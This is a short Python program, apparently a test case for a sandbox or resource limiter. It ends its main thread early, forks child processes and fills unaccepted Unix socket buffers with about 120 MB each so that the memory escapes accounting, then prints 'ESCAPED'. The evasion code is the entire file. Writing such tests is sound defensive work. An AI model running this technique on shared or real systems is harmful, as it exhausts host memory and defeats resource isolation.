# role: program
# ends: memory
import ctypes, os, platform, socket, threading, time

libc = ctypes.CDLL(None)
EXIT = (60, 93)[("x86_64", "aarch64").index(platform.machine())]


def fill():
    time.sleep(0.3)  # until the first thread of the first process has ended
    for _ in range(7):
        if os.fork() == 0:
            break
    # A connection that is not accepted keeps the sent data, even if the sender has closed it.
    block, total, full = b"x" * (1 << 16), 0, True
    listeners = []
    while total < 120 << 20:
        if full:
            listeners.append(socket.socket(socket.AF_UNIX))
            listeners[-1].bind(f"/tmp/{os.getpid()}-{len(listeners)}")
            listeners[-1].listen(4096)
        sender = socket.socket(socket.AF_UNIX)
        sender.setblocking(False)
        full = sender.connect_ex(listeners[-1].getsockname()) != 0
        try:
            while not full:
                total += sender.send(block)
        except BlockingIOError:
            sender.close()
    time.sleep(2)
    print("ESCAPED", total, flush=True)


threading.Thread(target=fill).start()
libc.syscall(ctypes.c_long(EXIT), ctypes.c_long(0))  # ends this thread only
